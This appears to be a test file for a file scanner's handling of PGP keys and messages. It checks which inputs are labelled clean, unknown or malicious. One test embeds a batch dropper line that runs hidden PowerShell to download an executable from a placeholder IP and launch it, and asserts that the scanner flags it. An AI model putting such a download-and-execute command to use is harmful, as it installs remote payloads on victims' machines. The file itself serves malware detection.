// Keys and signatures are read to their end; what is locked, packed or no packet is not clean.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { analyzeFile } from '../../../src/index.ts'
import { armored, key, literal, packet, signature, user } from './write-pgp.ts'

const judge = (bytes: Uint8Array) => analyzeFile(bytes, { fileName: 'a.asc', now: new Date('2026-01-01T00:00:00Z') })

test('a key with its owner and signatures, wrapped for mail or not, is clean', async () => {
  const whole = Buffer.concat([key, user, signature, signature])
  for (const bytes of [armored(whole), Buffer.concat([armored(whole), armored(whole)])]) {
    const { root, verdict } = await judge(bytes)
    assert.equal(root.facts.type.id, 'pgp')
    assert.deepEqual(root.facts.pgp?.users[0], 'Ann Example <ann@host.example>')
    assert.equal(verdict.label, 'clean')
  }
})

test('what is encrypted, compressed, cut off or no packet is not clean', async () => {
  for (const bytes of [
    armored(Buffer.concat([key, packet(18, Buffer.alloc(99, 1))])),
    armored(packet(8, Buffer.alloc(99, 1))),
    armored(Buffer.concat([key, Buffer.from('MZ, a program')])),
    armored(Buffer.concat([key, user]).subarray(0, 200)),
    armored(Buffer.concat([key, user])).subarray(0, 300),
  ])
    assert.equal((await judge(bytes)).verdict.label, 'unknown')
})

test('what a message carries in the clear, and what stands around the block, is looked at', async () => {
  const drops =
    '@echo off\r\npowershell -w hidden -ep bypass -c "iwr http://198.51.100.7/a.exe -o %temp%\\a.exe; start %temp%\\a.exe"\r\n'
  const { root, verdict } = await judge(armored(literal(drops)))
  assert.equal(root.children[0]?.facts.type.id, 'batch')
  assert.equal(verdict.label, 'malicious')
  const { root: around } = await judge(armored(key, 'A line behind it.'))
  assert.equal(around.children.length, 1)
})
